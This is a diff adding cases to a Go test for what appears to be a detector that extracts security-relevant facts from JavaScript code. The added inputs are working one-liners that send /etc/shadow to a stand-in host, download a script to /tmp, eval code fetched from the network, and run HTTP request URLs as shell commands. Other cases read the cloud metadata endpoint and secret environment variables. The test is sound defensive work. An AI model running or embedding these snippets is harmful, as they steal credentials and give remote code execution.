@@ -64,6 +64,13 @@ func TestFacts(t *testing.T) {
 		{"XHR", `const x = new XMLHttpRequest(); x.open('POST', 'http://x.test')`, []string{"net request x.test"}, nil},
 		{"metadata", `fetch('http://169.254.169.254/latest/meta-data')`, []string{"net request 169.254.169.254"}, nil},
 
+		{"piped to request", `require('fs').createReadStream('/etc/shadow').pipe(require('http').request({host: 'x.test', method: 'POST'}))`, []string{"net upload x.test <- file:/etc/shadow"}, nil},
+		{"piped to file", `require('https').get('https://x.test/a', r => r.pipe(require('fs').createWriteStream('/tmp/x.sh')))`, []string{"net request x.test", "file write /tmp/x.sh <- net:x.test"}, nil},
+		{"pipeline", `require('stream').pipeline(require('fs').createReadStream('/etc/shadow'), require('net').connect(1, 'x.test'), () => {})`, []string{"net upload x.test <- file:/etc/shadow"}, nil},
+		{"received code", `require('https').get('https://x.test/a', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })`, []string{"dynamic opaque_code <- net:x.test"}, nil},
+		{"fetched code", `fetch('https://x.test/a').then(r => r.text()).then(eval)`, []string{"dynamic opaque_code <- net:x.test"}, nil},
+		{"served command", `require('http').createServer((q, r) => require('child_process').exec(q.url)).listen(1)`, []string{"dynamic opaque_code <- net"}, nil},
+
 		{"env", `const {AWS_SECRET_ACCESS_KEY: k} = process.env; const t = process.env.TOKEN; process.env['A' + 'B']`, []string{"env read AWS_SECRET_ACCESS_KEY", "env read TOKEN", "env read AB"}, []string{"env dump"}},
 		{"env dump", `console.log(process.env)`, []string{"env dump"}, nil},
 		{"env entries", `for (const [k, v] of Object.entries(process.env)) {}`, []string{"env dump"}, nil},
